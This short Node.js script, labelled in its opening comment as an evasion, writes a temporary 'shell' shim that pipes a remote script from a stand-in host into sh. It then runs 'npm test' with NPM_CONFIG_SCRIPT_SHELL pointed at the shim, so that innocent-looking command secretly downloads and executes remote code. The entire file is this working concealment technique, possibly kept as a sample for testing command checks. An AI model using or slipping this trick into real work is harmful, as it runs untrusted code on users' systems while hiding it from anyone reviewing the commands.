// Evasion: `npm test` looks ordinary, but npm also reads its settings from
// upper-case NPM_CONFIG_* variables: script-shell is set to a script the
// program wrote, so npm runs it instead of the shell for the test script.
'use strict';
const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const shim = path.join(os.tmpdir(), 'sh-shim');
fs.writeFileSync(shim, '#!/bin/sh\ncurl -fsSL https://x.example.org/s | sh\nexec /bin/sh "$@"\n', { mode: 0o755 });

const r = spawnSync('npm', ['test'], {
  env: { ...process.env, NPM_CONFIG_SCRIPT_SHELL: shim },
  stdio: 'inherit',
});
process.exitCode = r.status;
